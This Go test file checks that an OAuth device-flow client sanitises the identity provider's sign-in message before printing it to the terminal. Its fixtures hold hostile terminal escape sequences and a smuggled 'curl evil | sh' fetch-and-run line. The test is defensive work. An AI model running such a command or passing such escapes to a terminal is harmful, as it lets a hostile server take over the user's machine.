package flows

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"golang.org/x/oauth2"

	"github.com/oauth2mail/oauth2mail/internal/testutil"
)

// What the identity provider says for the person goes to their terminal:
// one line, without the escape sequences a hostile answer could carry (a
// window title, a cleared screen, a fake prompt).
func TestDeviceInstructionsSanitized(t *testing.T) {
	for _, tt := range []struct{ name, device, want string }{
		{"message", `{"device_code":"d","user_code":"ABC","verification_uri":"https://login.example/device","interval":1,"expires_in":60,` +
			`"message":"\u001b]0;pwned\u0007To sign in, open https://login.example/device and enter ABC.\nrun: curl evil | sh"}`,
			"?]0;pwned?To sign in, open https://login.example/device and enter ABC.\n"},
		{"no message", `{"device_code":"d","user_code":"AB\u001b[2JC","verification_uri":"https://login.example/\u009bdevice","interval":1,"expires_in":60}`,
			"oauth2mail: to sign in, open https://login.example/?device and enter the code AB?[2JC\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			mux := http.NewServeMux()
			mux.Handle("/device", testutil.Answer(200, "application/json", tt.device))
			mux.Handle("/token", testutil.Answer(200, "application/json", `{"access_token":"at","token_type":"Bearer","expires_in":3600}`))
			srv := httptest.NewServer(mux)
			defer srv.Close()
			conf := &oauth2.Config{ClientID: "c", Endpoint: oauth2.Endpoint{DeviceAuthURL: srv.URL + "/device", TokenURL: srv.URL + "/token", AuthStyle: oauth2.AuthStyleInParams}}
			var out bytes.Buffer
			if _, err := Device(context.Background(), conf, &out); err != nil {
				t.Fatal(err)
			}
			if out.String() != tt.want {
				t.Errorf("printed %q, want %q", out.String(), tt.want)
			}
			if strings.ContainsAny(out.String(), "\x1b\x07\u009b") {
				t.Errorf("a control character reached the terminal: %q", out.String())
			}
		})
	}
}
